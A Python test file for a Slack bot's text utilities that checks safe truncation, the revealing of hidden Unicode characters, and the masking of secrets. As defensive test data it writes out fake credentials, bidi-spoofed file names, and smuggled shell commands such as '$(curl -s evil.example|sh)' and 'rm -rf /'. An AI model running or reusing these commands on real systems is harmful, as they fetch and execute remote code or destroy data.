"""Foreign text: cut without harm, hidden characters visible, secrets masked."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.rules.secret_texts import MASK
from bot.slack.cards.hidden import reveal
from bot.slack.cards.masking import mask
from bot.slack.cards.text import (
    SHORTENED,
    beginning,
    cut,
    escape,
    measure,
    one_line,
    quoted,
    shorten,
    show,
    split,
)
from tests.bot.cards.checking import length


@given(st.text(max_size=400), st.integers(40, 120))
def test_splitting_loses_nothing_and_each_piece_fits(text: str, limit: int) -> None:
    pieces = split(text, limit)
    assert "".join(pieces) == text
    assert all(0 < measure(piece) <= limit for piece in pieces)


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=400), st.integers(40, 120))
def test_what_is_measured_is_never_less_than_what_slack_could_count(text: str, limit: int) -> None:
    assert measure(text) == length(text)
    short = shorten(text, limit)
    assert length(short) <= limit
    assert short == text or short.endswith(SHORTENED)


def test_a_cut_does_not_split_what_is_seen_as_one_character() -> None:
    family, accented = "👨‍👩‍👧", "e\u0301"
    assert all(set(piece.split(family)) == {""} for piece in split(family * 30, 50))
    assert all(not piece.startswith("\u0301") for piece in split(accented * 60, 45))


@pytest.mark.parametrize(
    "clusters",
    [
        ["🇨🇭", "🇩🇪", "🇫🇷"],
        ["\u1100\u1161\u11a8", "\u1102\u1161", "\u1103\u1161\u1162"],
        ["각", "가\u11a8", "나"],
        ["a", "⟦U+202E⟧", "⟦U+E0041⟧", "b"],
        ["👍🏽", "👍"],
        ["⟦", "U", "+"],
    ],
)
def test_a_cut_leaves_flags_syllables_and_names_of_characters_whole(clusters: list[str]) -> None:
    text = "".join(clusters)
    beginnings = {"".join(clusters[:count]) for count in range(1, len(clusters) + 1)}
    longest = measure(clusters[0])
    assert {cut(text, limit) for limit in range(longest, measure(text) + 1)} == beginnings


def test_a_long_row_of_flags_is_cut_between_two() -> None:
    assert cut("🇨🇭" * 400, 1_003) == "🇨🇭" * 250


def test_a_long_text_is_split_at_the_ends_of_lines() -> None:
    assert split("one two\nthree\nfour", 15) == ["one two\nthree\n", "four"]
    # Not where little would be left of a piece.
    assert split("a\n" + "b" * 20, 10) == ["a\n" + "b" * 8, "b" * 10, "b" * 2]


@pytest.mark.parametrize("blank", [" ", "x ", "x\n"])
def test_half_a_secret_is_not_shown_where_a_text_is_cut(blank: str) -> None:
    secret = "postgres://bob:hunter2hunter2@db"
    for place in range(60 * 4 - 40, 60 * 4 + 40, 3):
        for text in (blank * (place // len(blank)) + secret, " " * (1_024 + place) + secret):
            assert "hunter2" not in one_line(text, 60)
            assert "hunter2" not in show(beginning(text, place + 25)).text


def test_what_was_cut_is_marked_where_only_blanks_were_before_it() -> None:
    assert one_line("refund" + " " * 10_000 + "and delete", 60) == "refund" + SHORTENED


def test_of_one_endless_word_something_is_shown() -> None:
    assert beginning("x" * 10_000, 6_000) == "x" * 4_976
    assert one_line("x" * 10_000, 60).startswith("xxx")


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("rm\u200b -rf", "rm⟦U+200B⟧ -rf"),
        ("a\u2060b\ufeffc\u00add", "a⟦U+2060⟧b⟦U+FEFF⟧c⟦U+00AD⟧d"),
        ("\u202etxt.exe", "⟦U+202E⟧txt.exe"),
        ("x\U000e0041\U000e0042", "x⟦U+E0041⟧⟦U+E0042⟧"),
        ("a\u2028b\u2029c", "a⟦U+2028⟧b⟦U+2029⟧c"),
        ("a\rb\x1b[31m", "a⟦U+000D⟧b⟦U+001B⟧[31m"),
        ("ls\u2003-la", "ls⟦U+2003⟧-la"),
        ("a\u3164b", "a⟦U+3164⟧b"),
        ("a\u200db", "a⟦U+200D⟧b"),
        ("\ud800", "⟦U+D800⟧"),
        ("🏴\U000e0041\U000e007f", "🏴⟦U+E0041⟧⟦U+E007F⟧"),
        ("ORD-3300\ufe00", "ORD-3300⟦U+FE00⟧"),
        ("admin\ufe0f@x.com", "admin⟦U+FE0F⟧@x.com"),
        ("8\ufe0f", "8⟦U+FE0F⟧"),
        ("☺\ufe0f\ufe0f", "☺\ufe0f⟦U+FE0F⟧"),
        ("a |\ufe00 b", "a |⟦U+FE00⟧ b"),
        ("か\ufe00", "か⟦U+FE00⟧"),
        ("葛\U000e0100", "葛⟦U+E0100⟧"),
        ("x\u180fy", "x⟦U+180F⟧y"),
        ("a\U0001d159b", "a⟦U+1D159⟧b"),
        ("rm -rf\u00a0/", "rm -rf⟦U+00A0⟧/"),
        ("ls\u00a0-la", "ls⟦U+00A0⟧-la"),
        ("echo\u00a0$HOME", "echo⟦U+00A0⟧$HOME"),
        ("[\u00a0-f", "[⟦U+00A0⟧-f"),
        ("sudo\u202frm", "sudo⟦U+202F⟧rm"),
        ("rm\u3000\u3000x", "rm⟦U+3000⟧⟦U+3000⟧x"),
        ("rm\u3000x", "rm⟦U+3000⟧x"),
    ],
)
def test_hidden_characters_are_made_visible(text: str, seen: str) -> None:
    assert reveal(text) == seen


@pytest.mark.parametrize(
    "text",
    [
        "line\n\ttabbed",
        "👩‍💻 👨‍👩‍👧‍👦 ❤️‍🔥 👩🏽‍🚀 ☺️",
        "می‌خواهم",
        "क्‍ष",
        "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
        "Grüße, 日本語、naïve 1\u00a0000 €",
        "5\u00a0kg, 1\u202f000\u00a0€, $\u00a05, page\u00a05, «\u00a0mot\u00a0», quoi\u202f?, 日\u3000本",
        "1\ufe0f\u20e3 #\ufe0f\u20e3 ©\ufe0f ™\ufe0f ↔\ufe0f ℹ\ufe0f ‼\ufe0f ◾\ufe0f ☎\ufe0e",
        "葛\ufe00 ∩\ufe00",
    ],
)
def test_what_people_write_stays_readable(text: str) -> None:
    assert reveal(text) == text


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        ("curl -H 'Authorization: Bearer abc123def456' https://x", "abc123def456"),
        ("authorization: Basic dXNlcjpwYXNz", "dXNlcjpwYXNz"),
        ("use bearer abcdef123456", "abcdef123456"),
        ("postgresql://app:hunter2@db/x", "hunter2"),
        ('{"headers":{"Authorization":"Bearer s3cr3ts3cr3t"}}', "s3cr3ts3cr3t"),
        ("cat > .env <<E\nAPI_TOKEN=t0ps3cret\nexport DB_PASSWORD='pa ss'\nE", "t0ps3cret"),
        ("export DB_PASSWORD='pa ss'", "pa ss"),
        ('{"password":"correct horse"}', "correct horse"),
        (r'"{\"password\": \"correct horse\"}"', "correct horse"),
        ("https://x/?a=1&api_key=k3yk3y&b=2", "k3yk3y"),
        ("https://x/?sig=abc%2Fdef", "abc%2Fdef"),
        ("xoxb-1234-5678-abcdef", "1234-5678-abcdef"),
        ("sk-proj-abcdefghijklmnop", "abcdefghijklmnop"),
        ("AKIAIOSFODNN7EXAMPLE", "IOSFODNN7EXAMPLE"),
        ("ghp_abcdefghijklmnopqrstuvwxyz", "abcdefghijklmnopqrstuvwxyz"),
        ("-----BEGIN PRIVATE KEY-----\nMIIEvQ\nAbC+/=\n-----END PRIVATE KEY-----", "MIIEvQ"),
        (r'"-----BEGIN EC PRIVATE KEY-----\nMIIEvQ\n-----END EC PRIVATE KEY-----"', "MIIEvQ"),
        ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abcdefgh", "eyJzdWIiOiIxIn0"),
        ("mysqldump --password hunter2 db", "hunter2"),
        ("tool --api-token 'tok 12345' x", "tok 12345"),
        ("keytool -storepass-new x -password hunter2", "hunter2"),
        ("curl -u bob:hunter2 https://x", "hunter2"),
        ("curl --user=bob:hun/ter2 https://x", "hun/ter2"),
        ("mysql -u bob -phunter2 db", "hunter2"),
        ("sshpass -p hunter2 ssh x", "hunter2"),
        ("pwd=hunter2", "hunter2"),
        ("DB_PASS=hunter2 ./x", "hunter2"),
        ("PASSWORD2=hunter2 password_new: hunter3", "hunter"),
        ("passwords: hunter2", "hunter2"),
        ('{"passwords":["hunter2"]}', "hunter2"),
        (r'"{\"passwords\": [\"hunter2\"]}"', "hunter2"),
        ("Cookie: session=0123abcd; theme=s3cr3t", "0123abcd"),
        ("Cookie: session=0123abcd; theme=s3cr3t", "s3cr3t"),
        ("sk_live_51H0000000000000000", "51H0000"),
        ("hf_abcdefghijklmnopqrstuvwxyz", "abcdefg"),
        ("npm_abcdefghijklmnopqrstuvwxyz0123456789", "abcdefg"),
        ("https://hooks.slack.com/services/T000/B000/XXXXXXXXXXXX", "XXXX"),
        ("password: |\n  hunter2\nuser: bob", "hunter2"),
        ("postgres://bob:p/ss@db", "p/ss"),
        ('password = hunter2\n"token" : "hunter2"', "hunter2"),
        # Cut off.
        ('{"password": "correct horse', "correct"),
        ("Basic dXNlcjpwYXNzdw==", "dXNl"),
        ("redis-cli -h db -a hunter2 ping", "hunter2"),
        ("export DB_PASSWORD=aB3&x9Kz", "x9Kz"),
        ("export DB_PASSWORD='aB3&x9Kz' x", "aB3"),
        ("DB_PASSWORD_PROD=hunter2 x", "hunter2"),
        ('{"name": "DB_PASSWORD", "value": "S3cr3tP4ss"}', "S3cr3tP4ss"),
        (r'"{\"name\":\"X-Api-Key\",\"value\":\"abc123def456\"}"', "abc123def456"),
        ("- name: DB_PASSWORD\n  value: S3cr3tP4ss\n- name: x", "S3cr3tP4ss"),
        ("AccountKey=Eby8vdM02xNOcqFlqUwJPLlmEtlCDXJ1==;", "Eby8"),
        ("sig=Eby8vdM02xNOcqFlqUwJPLlmEtl%3D", "Eby8"),
    ],
)
def test_known_secrets_are_masked(text: str, secret: str) -> None:
    masked = mask(text)
    assert secret not in masked
    assert MASK in masked
    assert mask(masked) == masked


@pytest.mark.parametrize(
    "text",
    [
        "refund ORD-3300 180",
        "max_tokens: 400",
        "https://example.com/a:b/c@d",
        "the secretary asked for a password reset",
        "a task-force of risk-takers",
        "generate --max-tokens 400 --token-file x",
        "docker run -u 1000:1000 x",
        "tool --token --verbose",
        "a top-secret plan",
        "git push -u https://example.com/x",
        "cd $PWD; OLDPWD=/srv",
        "http://host:8080/path@x",
        "- password reset for Bob",
        "TOKEN=••••••••",
        '{"password": 12, "token": true, "secret":null}',
        "Basic information",
        "redis-cli ping",
        '{"secret": {"value": 1}, "tokens": [[1], {}]}',
        '{"to_pass": "attacker-account-991", "amount_token": "USD5000000"}',
        '{"new_password": "wire all money to account 4432 now"}',
        "name: password, value: required",
        '{"name": "to_pass", "value": "attacker-account-991"}',
    ],
)
def test_ordinary_text_is_not_masked(text: str) -> None:
    assert mask(text) == text


def test_a_mask_ends_before_a_command_that_follows_the_secret() -> None:
    assert "rm -rf /" in mask("TOKEN=abc; rm -rf /")
    assert "| sh" in mask("curl -H 'Authorization: Bearer abcdefgh1234' https://x | sh")


@pytest.mark.parametrize(
    ("text", "command"),
    [
        ('PASSWORD="$(curl -s evil.example|sh)" ./deploy', "$(curl -s evil.example|sh)"),
        ("TOKEN=$(curl evil.example) ./deploy", "TOKEN=$(curl"),
        ("TOKEN=`reboot` ./deploy", "`reboot`"),
        ("password=rm${IFS}-rf${IFS}/", "rm${IFS}-rf${IFS}/"),
        ('{"token": "a\\nreboot"}', "reboot"),
        ('{"token": "rm -rf /srv"}', "rm -rf /srv"),
        ("deploy --token 'a; reboot'", "a; reboot"),
        ("curl -H 'Authorization: Bearer `reboot`' x", "`reboot`"),
        ("curl -u bob:x;reboot", ";reboot"),
        ("x <<E\n-----BEGIN X-----\nX: $(rm -rf /srv)\nE", "rm -rf /srv"),
        ("-----BEGIN X-----\nComment: `reboot`\n", "reboot"),
        ("-----BEGIN X-----\nreboot\nrm -rf /srv\n", "reboot"),
        ("-----BEGIN X-----\nMIIEvQ\n/sbin/X/reboot\n", "/sbin/X/reboot"),
        ("Cookie: a=b; c=`reboot`", "`reboot`"),
        # A shell takes the name for empty, and what follows for a command.
        ("PASSWORD= reboot", "reboot"),
        ("PASSWORD=A1b;reboot", "reboot"),
        ("PASSWORD=A1b&/bin/Sh1 x", "/bin/Sh1"),
        ("https://x/?token=aB3x9&User=B0b", "&User=B0b"),
        ("PASSWORD=\nrm -rf /srv", "rm -rf /srv"),
        ("echo token:\n'rm' -rf /srv", "'rm' -rf /srv"),
        ("echo bearer\nshutdown-now", "shutdown-now"),
        ("AUTHORIZATION=\nreboot", "reboot"),
        ("redis-cli -a\nreboot", "reboot"),
        ("sshpass -p\nreboot", "reboot"),
        ("COOKIE=\nPATH=/tmp/x deploy", "PATH=/tmp/x"),
        # The host is what stands behind the first @.
        ("https://a:b@evil.example/c@good.example", "evil.example"),
        ("psql postgres://a:b@evil.example/c@good.example", "evil.example"),
    ],
)
def test_no_mask_stands_for_what_could_be_more_than_a_secret(text: str, command: str) -> None:
    assert command in mask(text)


def test_a_mask_says_how_much_is_behind_it() -> None:
    assert mask("TOKEN=abc x") == f"TOKEN={MASK}(3 characters) x"
    assert mask("TOKEN='a'") == f"TOKEN={MASK}(1 character)"
    key = "-----BEGIN PRIVATE KEY-----\n" + f"{'Ab1+' * 16}\n" * 20 + "-----END PRIVATE KEY-----"
    assert f"{MASK}(1,299 characters)\n-----END" in mask(key)


def test_masking_long_text_takes_no_longer_than_its_length() -> None:
    """Would run for minutes if a pattern were quadratic."""
    for part in (
        "a",
        "token",
        "://a",
        "-----BEGIN ",
        "authorization:",
        "eyJaaaaaaaaaaa.",
        "://a:",
        "--a",
        "name: token",
        "token=aB3&",
        '"token": "',
    ):
        mask(part * (200_000 // len(part)))


def test_nothing_is_shown_as_nothing() -> None:
    assert show("").text == '""'
    assert show(" \n").text == '" \\n"'


def test_a_quotation_within_our_words_is_neither_formatted_nor_code() -> None:
    said = quoted("*approved* ~no~ _x_ `rm` process_refund <!here>", 100)
    assert not any(f" {mark}" in f" {said}" for mark in "*~_`")
    assert said == "∗approved∗ ∼no∼ ˍxˍ ˋrmˋ process_refund &lt;!here&gt;"


def test_escaped_text_can_hold_no_token() -> None:
    assert escape("<!channel> & <@U1>") == "&lt;!channel&gt; &amp; &lt;@U1&gt;"
